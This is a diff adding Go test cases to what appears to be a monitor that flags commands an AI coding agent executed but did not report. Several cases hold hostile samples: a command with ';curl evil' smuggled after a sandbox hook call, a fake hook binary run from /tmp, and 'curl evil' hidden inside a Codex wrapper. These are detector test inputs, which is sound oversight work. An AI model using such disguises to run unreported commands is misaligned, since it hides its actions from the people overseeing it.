@@ -187,6 +187,18 @@ func TestCheck(t *testing.T) {
 			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; exec sh -c 'cd x'").exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
 			[]*Claim{told("cd x", 0)}, []string{"executed cd x"},
 		},
+		"belljar's hook": {
+			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude").exec(11, 10, "/run/belljar/guest", "/run/belljar/guest", "hook", "claude").exit(11, 0).exit(10, 0).
+				exec(12, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook codex").exec(12, 5, "/run/belljar/guest", "/run/belljar/guest", "hook", "codex").exit(12, 0),
+			nil, nil,
+		},
+		"what only looks like belljar's hook": {
+			newRun().exec(10, 5, "/tmp/guest", "/run/belljar/guest", "hook", "claude").exit(10, 0).
+				exec(11, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude;curl evil").exec(12, 11, "/usr/bin/curl", "curl", "evil").exit(12, 0).exit(11, 0).
+				exec(13, 5, "/run/belljar/guest", "/run/belljar/guest", "listen", "x").exit(13, 0).
+				exec(14, 5, "/usr/bin/sh", "sh", "-c", "/run/belljar/guest hook claude").exec(15, 14, "/usr/bin/curl", "curl", "evil").exit(15, 0).exit(14, 0),
+			nil, []string{"executed but not told '/run/belljar/guest' 'hook' 'claude'", "executed but not told /run/belljar/guest hook claude;curl evil", "executed but not told '/run/belljar/guest' 'listen' 'x'", "executed but not told /run/belljar/guest hook claude"},
+		},
 		"what only looks as if codex wrapped it": {
 			newRun().exec(10, 5, "/usr/bin/sh", "sh", "-c", "__CODEX_SNAPSHOT_X=1; curl evil; exec sh -c 'cd x'").exec(11, 10, "/usr/bin/curl", "curl", "evil").
 				exec(10, 5, "/usr/bin/sh", "sh", "-c", "cd x").exit(10, 0),
